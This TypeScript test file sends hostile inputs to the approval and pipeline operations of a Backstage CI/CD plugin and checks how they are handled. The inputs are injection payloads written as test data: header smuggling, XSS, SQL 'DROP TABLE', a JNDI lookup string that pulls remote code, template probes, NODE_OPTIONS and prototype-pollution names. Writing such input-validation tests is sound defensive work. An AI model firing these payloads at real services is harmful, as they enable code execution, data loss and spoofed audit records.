import { randomUUID } from 'node:crypto';
import type {
  OperationInput,
  OperationName,
} from '@ecs-cicd/backstage-plugin-common';
import { SECRET, type AbuseBench } from '../AbuseBench';
import type { AbuseCase } from '../AbuseCase';
import { PIPELINE } from '../Elsewhere';

const comment = (text: unknown) => async (bench: AbuseBench) =>
  bench.send({ body: { ...(await bench.request()), comment: text } });

const chosen =
  (operation: OperationName, input: unknown) => async (bench: AbuseBench) =>
    bench.send({
      path: `/v1/entities/component/default/checkout/operations/${operation}`,
      body: {
        ...(await bench.request(
          operation === 'retry-stage' || operation === 'stop-execution'
            ? 'start-pipeline'
            : operation,
        )),
        input,
      },
    });

const reason = (text: unknown) => chosen('close-transition', { reason: text });
const start = (input: OperationInput) => chosen('start-pipeline', input);

const refused = (title: string, send: AbuseCase['send']): AbuseCase => ({
  title,
  send,
  status: 400,
});

/** A comment that is kept as it is, and comes to AWS whole enough for it. */
const kept = (title: string, text: string): AbuseCase => ({
  title: `a comment with ${title}, which is kept as it is`,
  send: comment(text),
  status: 200,
  writes: { PutApprovalResult: 1 },
  also: async (answer, bench) => {
    expect(answer.body.comment).toBe(text);
    expect(answer.headers['content-type']).toMatch(/^application\/json/);
    const [summary] = await bench.elsewhere.summaries();
    expect(summary.length).toBeLessThanOrEqual(512);
    expect(Buffer.from(summary, 'utf8').toString('utf8')).toBe(summary);
    const [, told] = summary.split(': ');
    expect(text.startsWith(told)).toBe(true);
  },
});

/** Text and choices that people, or programs, put in. */
export const whatIsSaid: AbuseCase[] = [
  ...Object.entries({
    'a header': 'Fine\r\nSet-Cookie: admin=true',
    'a carriage return': 'Fine\rNot fine',
    'a tab': 'Fine\tand good',
    'a NUL': 'Fine\u0000',
    'an escape sequence': '\u001B[2J\u001B[31mApproved by root',
    'a next-line character': 'Fine\u0085audit: approved by root',
    'a line separator': 'Fine\u2028audit: approved by root',
    'an override of direction': 'Fine \u202Etoor yb devorppa',
    'half an emoji': 'Fine \ud83d',
    '5,000 characters': 'x'.repeat(5_000),
  }).map(([title, text]) => refused(`a comment with ${title}`, comment(text))),
  ...[1, true, null, ['Fine'], { toString: 'Fine' }].map(value =>
    refused(`the comment ${JSON.stringify(value)}`, comment(value)),
  ),
  kept('markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'),
  kept('SQL', "'); DROP TABLE operations; --"),
  kept('a template', '${jndi:ldap://example.com/a} {{7*7}} %s %n'),
  kept('300 emoji', '😀'.repeat(300)),
  kept('301 halves of emoji', `x${'😀'.repeat(299)}`),
  kept('other alphabets', 'Проверено — 確認済み — تم التحقق'),
  kept('a line break', 'Seen on test\nand in the canary'),

  ...Object.entries({
    'a line break': 'Not now\nreally',
    'a header': 'Not now\r\nX: y',
    markup: '<b>Not now</b>',
    'an umlaut': 'Nicht jetzt für immer ä',
    'an emoji': 'Not now 😀',
    'a colon': 'Ticket: 1',
    '301 characters': 'x'.repeat(301),
    nothing: '',
  }).map(([title, text]) => refused(`a reason with ${title}`, reason(text))),
  refused('no reason where there has to be one', reason(undefined)),
  refused('a reason that is a list', reason(['Not now'])),
  {
    title: 'a reason in the alphabet of AWS',
    send: reason('Not now (ticket 1) - ask ops@example.com!'),
    status: 200,
    writes: { DisableStageTransition: 1 },
  },

  refused(
    'an input that the operation does not take',
    chosen('approve', { abandon: true }),
  ),
  refused('an input that no operation takes', chosen('approve', { x: 1 })),
  refused('an input that is a list', chosen('approve', [])),
  refused(
    'a way to retry that there is not',
    chosen('retry-stage', { retry: 'everything' }),
  ),
  refused(
    'a yes that is a word',
    chosen('stop-execution', { abandon: 'false' }),
  ),
  refused(
    'a variable that the pipeline does not declare',
    start({ variables: [{ name: 'NODE_OPTIONS', value: SECRET }] }),
  ),
  refused(
    'a variable that every object has',
    start({ variables: [{ name: 'constructor', value: SECRET }] }),
  ),
  refused(
    'a variable with a name that is none',
    start({ variables: [{ name: 'A;B', value: SECRET }] }),
  ),
  refused(
    'a value of two lines, which AWS would refuse aloud',
    start({ variables: [{ name: 'A', value: `${SECRET}\n2` }] }),
  ),
  refused(
    'a revision for a source that there is not',
    start({ sources: [{ actionName: 'Nothing', revisionId: 'abc' }] }),
  ),
  refused(
    'two revisions for one source',
    start({
      sources: [
        { actionName: 'Commit', revisionId: 'a' },
        { actionName: 'Commit', revisionId: 'b' },
      ],
    }),
  ),
  ...[PIPELINE('checkout'), 'abc', '', 1, null, `${randomUUID()}\n`].map(id =>
    refused(`the request id ${JSON.stringify(id)}`, async bench =>
      bench.send({ body: { ...(await bench.request()), requestId: id } }),
    ),
  ),
  refused('an ARN to confirm', async bench =>
    bench.send({
      body: { ...(await bench.request()), confirms: PIPELINE('checkout') },
    }),
  ),
  refused('a confirmation where there is nothing to confirm', async bench =>
    bench.send({
      body: { ...(await bench.request()), confirms: randomUUID() },
    }),
  ),
];
